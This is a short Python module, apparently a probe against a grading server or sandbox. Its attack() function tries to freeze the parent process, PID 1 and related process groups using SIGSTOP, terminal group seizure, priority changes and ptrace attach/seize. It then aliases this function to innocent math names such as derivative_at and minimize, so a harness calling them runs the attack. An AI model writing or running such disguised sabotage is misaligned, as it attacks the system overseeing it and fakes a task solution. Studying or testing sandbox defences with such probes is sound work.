"""Stop the server: by signals, by its terminal, by its group, by tracing it."""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack(*args, **kwargs):
    done = []
    for pid in (os.getppid(), 1, 2, 0):
        for call in (
            lambda: os.kill(pid, signal.SIGSTOP) if pid != os.getpid() and pid else 1 / 0,
            lambda: os.killpg(pid, signal.SIGSTOP) if pid != os.getpgrp() else 1 / 0,
            lambda: os.tcsetpgrp(0, pid),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) if pid not in (0, os.getpid()) else 1 / 0,
            lambda: libc.ptrace(16, pid, 0, 0) == 0 or 1 / 0,
            lambda: libc.ptrace(0x4206, pid, 0, 0) == 0 or 1 / 0,
        ):
            try:
                call()
                done.append(pid)
            except (OSError, ZeroDivisionError):
                pass
    if done:
        raise RuntimeError(f"SUCCEEDED: {done}")
    return "nobody stopped"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
